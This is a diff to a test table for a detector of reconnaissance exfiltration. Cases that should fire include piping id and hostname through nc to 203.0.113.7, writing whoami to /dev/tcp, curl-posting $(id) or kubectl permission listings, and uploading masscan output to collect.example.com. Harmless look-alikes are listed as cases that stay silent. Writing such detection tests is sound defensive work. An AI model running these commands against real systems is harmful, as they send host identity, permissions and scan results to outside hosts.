@@ -4,6 +4,9 @@ import { commandReconSend } from './recon-send.ts';
 indicatorTable(commandReconSend, {
   fires: {
     'the identity into a plain connection': script('(id; hostname) | nc -w 5 203.0.113.7 4444'),
+    'what a scanner wrote into a file': script(
+      'masscan 10.0.0.0/8 -p6443 -oL /tmp/m; curl -T /tmp/m https://collect.example.com/',
+    ),
     'a plain connection inside the cluster': script('id | nc listener.default.svc.cluster.local 4444'),
     'a device of bash': runs('bash', '-c', 'whoami > /dev/tcp/203.0.113.7/443'),
     'the identity in the body of a request': script('curl -s -d "$(id)" https://collect.example.com/'),
@@ -13,6 +16,9 @@ indicatorTable(commandReconSend, {
     'what the account may do': script('kubectl auth can-i --list | curl --data-binary @- http://203.0.113.7/'),
   },
   staysSilent: {
+    'what a scanner wrote, kept for its own report': script(
+      'nmap -oX /reports/a.xml db.shop.svc; curl -T /reports/b.xml https://example.com/',
+    ),
     'a metric with the name of the host': script('echo "jobs.$(hostname) 1" | nc graphite.example.com 2003'),
     'the name of the node in a heartbeat': script('curl -d "node=$(uname -n)" https://hc.example.com/ping/1'),
     'an address for a name service': script(
